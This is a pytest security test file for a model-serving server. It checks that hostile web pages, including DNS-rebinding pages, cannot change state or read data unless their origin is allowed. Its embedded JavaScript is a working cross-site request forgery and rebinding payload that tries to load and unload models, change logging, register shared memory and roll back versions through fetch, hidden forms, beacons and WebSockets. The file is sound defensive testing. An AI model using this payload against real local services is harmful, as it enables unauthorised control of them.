"""Pages in a real browser on the server's machine change nothing, unless their origin is allowed."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from multiprocessing.shared_memory import SharedMemory
from pathlib import Path
from typing import Any

import pytest

from backline.access.keys import hash_key
from support import models
from support.browser import HOSTILE, TRUSTED, PageServer, browse
from support.server import ServerProcess, serve

KEY = "bk_3CTebq8bC-RvqehCLEW8redD-T4Xm-5kB9OPVMcVc8I"
REPORTED_WITHIN = 100.0
INFER = {"inputs": [{"name": "INPUT0", "datatype": "FP32", "shape": [1, 16], "data": [1.5] * 16}]}
#: Method, path and body of every request that changes state or costs compute.
COMMANDS: list[tuple[str, str, dict[str, Any]]] = [
    ("POST", "/v2/models/add1/infer", INFER),
    ("POST", "/v2/models/add1/generate", {"INPUT0": [1.5] * 16}),
    ("POST", "/models/add1", {"INPUT0": [1.5] * 16}),
    ("POST", "/v2/logging", {"log_verbose_level": 7}),
    ("POST", "/v2/trace/setting", {"trace_rate": "7"}),
    ("POST", "/v2/models/add1/trace/setting", {"trace_rate": "9"}),
    ("POST", "/v2/models/add1/record", {"count": 3}),
    ("DELETE", "/v2/models/add1/record", {}),
    ("PUT", "/v2/models/add1/labels/canary", {"version": "1"}),
    ("DELETE", "/v2/models/add1/labels/kept", {}),
    ("POST", "/v2/models/add1/promote", {"version": "1"}),
    ("POST", "/v2/models/add1/rollback", {}),
    ("POST", "/v2/repository/refresh", {}),
    ("POST", "/v2/systemsharedmemory/unregister", {}),
    ("POST", "/v2/systemsharedmemory/region/another/register", {"key": "/x", "byte_size": 64}),
    ("POST", "/v2/repository/models/ident/load", {}),
    ("POST", "/v2/repository/models/add1/unload", {}),
]
SHOWN = (
    "/v2/repository/index",
    "/v2/repository/history",
    "/v2/logging",
    "/v2/trace/setting",
    "/v2/models/add1/trace/setting",
    "/v2/models/add1/record",
    "/v2/models/add1/labels",
    "/v2/models/stats",
    "/v2/systemsharedmemory/status",
)
#: What the page tries to read.
READ = [
    "/v2/health/ready",
    "/v2",
    "/v2/activity",
    "/v2/traces",
    "/v2/access",
    "/openapi.json",
    "/v2/models",
    "/v2/models/add1/config",
    "/metrics",
    *SHOWN[1:],
]
ATTACK = (
    f"const KEY = {json.dumps(KEY)};"
    """
const settled = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 20000))]);

function submit(target, enctype, body, sandboxed) {
  return settled(new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    const form = document.createElement("form");
    Object.assign(form, {action: target, method: "POST", enctype, target: frame.name});
    const field = document.createElement("input");
    // As text/plain: the JSON, with "=" in a last member that is added to it.
    field.name = JSON.stringify(body).replace(/}$/, body && Object.keys(body).length ? ',"x":"' : '"x":"');
    field.value = '"}';
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => done();
    form.submit();
  }));
}

async function attack(base, commands) {
  const reached = [];
  for (const [method, path, body] of commands) {
    const target = base + path, text = JSON.stringify(body);
    const tries = [];
    if (method === "POST") {
      // Fulfilled when an answer came, though it cannot be read.
      tries.push(
        fetch(target, {method, mode: "no-cors", body: text})
          .then(() => reached.push(path), (e) => reached.push(String(e))));
      tries.push(fetch(target, {method, mode: "no-cors", body: new Blob([text])}).catch(() => 0));
      tries.push(
        fetch(target, {method, mode: "no-cors", body: text, referrerPolicy: "no-referrer"}).catch(() => 0));
      for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        tries.push(submit(target, enctype, body));
      }
      navigator.sendBeacon(target, text);
    }
    tries.push(
      fetch(target, {method, headers: {"content-type": "application/json"}, body: text}).catch(() => 0));
    // Even a page that knows a key cannot send it: the preflight request is refused.
    tries.push(
      fetch(target, {method, headers: {"authorization": `Bearer ${KEY}`}, body: text})
        .then((answer) => answer.ok && reached.push("key " + path)).catch(() => 0));
    tries.push(new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = () => done();
      image.src = target;
    }));
    await Promise.all(tries.map(settled));
  }
  for (const path of ["/v2", commands[0][1], "/models/add1/stream"]) {
    await settled(new Promise((done) => {
      const socket = new WebSocket(base.replace("http", "ws") + path);
      socket.onopen = socket.onerror = socket.onclose = () => done();
    }));
  }
  return reached;
}

function report(url, content) {
  return fetch(url, {method: "POST", mode: "no-cors", body: JSON.stringify(content)});
}
"""
)
SANDBOXED = """
<iframe sandbox="allow-scripts allow-forms" srcdoc="<script>
  const tries = {commands}.map(([method, path, body]) =>
    fetch('{base}' + path, {{method, mode: 'no-cors', body: JSON.stringify(body)}}).catch(() => 0));
  Promise.all(tries).then(() => parent.postMessage('done', '*'));
</script>"></iframe>
"""


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    folder = tmp_path / "models"
    models.add1(folder)
    models.ident(folder)
    return folder


@pytest.fixture
def region() -> Iterator[str]:
    memory = SharedMemory(create=True, size=64)
    yield memory.name
    memory.close()
    memory.unlink()


def ask(server: ServerProcess, path: str, body: Any = None, method: str | None = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(server.url + path, data, method=method)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return json.loads(answer.read() or b"null")
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)


def prepare(server: ServerProcess, region: str) -> None:
    """Creates one of each kind of thing that an attack could remove."""
    ask(server, "/v2/systemsharedmemory/region/mine/register", {"key": region, "byte_size": 64})
    ask(server, "/v2/models/add1/labels/kept", {"version": "1"}, "PUT")


def state(server: ServerProcess) -> dict[str, Any]:
    return {path: ask(server, path) for path in SHOWN}


OPTIONS = ("--model-control-mode", "explicit", "--load-model", "add1", "--allow-client-shm", "true")


#: A file of keys with which callers without a key may do everything, and the holder of one key too.
OPEN_TO_ALL = f"""
[anonymous]
scopes = ["infer", "read", "metrics", "manage", "admin"]
[[keys]]
name = "operator"
sha256 = "{hash_key(KEY)}"
scopes = ["infer", "read", "metrics", "manage", "admin"]
"""


@pytest.mark.parametrize(("host", "keyed"), [(HOSTILE, False), ("127.0.0.1", False), (HOSTILE, True)])
@pytest.mark.timeout(240)
def test_a_page_of_a_foreign_origin_changes_nothing(
    host: str, keyed: bool, repository: Path, region: str, tmp_path: Path
) -> None:
    (tmp_path / "auth.toml").write_text(OPEN_TO_ALL)
    options = (*OPTIONS, *(("--auth", str(tmp_path / "auth.toml")) if keyed else ()))
    with serve(repository, tmp_path / "log", *options) as server, PageServer() as pages:
        prepare(server, region)
        before = state(server)
        commands = json.dumps(COMMANDS)
        sandboxed = SANDBOXED.format(base=server.url, commands=commands.replace('"', "&quot;"))
        pages.page = f"""<!doctype html><body><script>{ATTACK}
          const sandbox = new Promise((done) => {{ window.onmessage = () => done(); }});
        </script>{sandboxed}<script>
          (async () => {{
            const reached = await attack("{server.url}", {commands});
            await settled(sandbox);
            await report("/", {{reached}});
          }})();
        </script></body>"""
        with browse(f"http://{host}:{pages.port}/", tmp_path / "profile"):
            reported = pages.reports.get(timeout=REPORTED_WITHIN)

        # The browser sent the attempts, so it was the server that refused them.
        assert set(reported["reached"]) == {path for method, path, _ in COMMANDS if method == "POST"}
        assert state(server) == before


@pytest.mark.timeout(240)
def test_a_page_that_rebinds_its_host_name_to_the_server_changes_and_reads_nothing(
    repository: Path, region: str, tmp_path: Path
) -> None:
    """The page's server hands its port to ours, so that the browser sees a single origin."""
    with PageServer() as pages, PageServer() as reports:
        pages.page = f"""<!doctype html><body><script>{ATTACK}
          (async () => {{
            await report("http://127.0.0.1:{reports.port}/", {{loaded: true}});
            const go = async () => (await fetch("http://127.0.0.1:{reports.port}/")).text();
            while (await go() !== "go") await new Promise((done) => setTimeout(done, 200));
            const reached = await attack(location.origin, {json.dumps(COMMANDS)});
            const read = {{}};
            for (const path of {json.dumps(READ)})
              read[path] = (await fetch(path, {{referrerPolicy: "no-referrer"}})).status;
            await report("http://127.0.0.1:{reports.port}/", {{reached, read}});
          }})();
        </script></body>"""
        with browse(f"http://{HOSTILE}:{pages.port}/", tmp_path / "profile"):
            assert reports.reports.get(timeout=REPORTED_WITHIN) == {"loaded": True}
            pages.close()
            with serve(
                repository, tmp_path / "log", *OPTIONS, "--http-port", str(pages.port), ready=False
            ) as server:
                server.http_port = pages.port
                server.wait_ready()
                prepare(server, region)
                before = state(server)
                reports.page = "go"
                reported = reports.reports.get(timeout=REPORTED_WITHIN)
                after = state(server)

    assert set(reported["reached"]) == {path for method, path, _ in COMMANDS if method == "POST"}
    assert after == before
    assert reported["read"] == dict.fromkeys(READ, 403) | {"/v2/health/ready": 200}


@pytest.mark.timeout(240)
def test_a_page_of_an_allowed_origin_may_use_the_server(repository: Path, tmp_path: Path) -> None:
    with PageServer() as pages:
        origin = f"http://{TRUSTED}:{pages.port}"
        with serve(repository, tmp_path / "log", *OPTIONS, "--cors-origin", origin) as server:
            pages.page = f"""<!doctype html><body><script>{ATTACK}
              const send = (method, path, body) => fetch("{server.url}" + path,
                {{method, headers: {{"content-type": "application/json"}}, body: JSON.stringify(body)}});
              (async () => {{
                try {{
                  const infer = {json.dumps(INFER)};
                  const inferred = await (await send("POST", "/v2/models/add1/infer", infer)).json();
                  const loaded = (await send("POST", "/v2/repository/models/ident/load", {{}})).status;
                  const label = "/v2/models/add1/labels/canary";
                  const labelled = (await send("PUT", label, {{version: "1"}})).status;
                  const failed = await (await send("POST", "/v2/models/none/infer", infer)).json();
                  await report("/", {{inferred, loaded, labelled, failed}});
                }} catch (error) {{ await report("/", {{error: String(error)}}); }}
              }})();
            </script></body>"""
            with browse(f"{origin}/", tmp_path / "profile"):
                reported = pages.reports.get(timeout=REPORTED_WITHIN)
            index = ask(server, "/v2/repository/index")

    assert reported.get("error") is None
    assert reported["inferred"]["outputs"][0]["data"] == [2.5] * 16
    assert (reported["loaded"], reported["labelled"]) == (200, 200)
    assert "none" in reported["failed"]["error"]
    assert {model["name"]: model.get("state") for model in index}["ident"] == "READY"
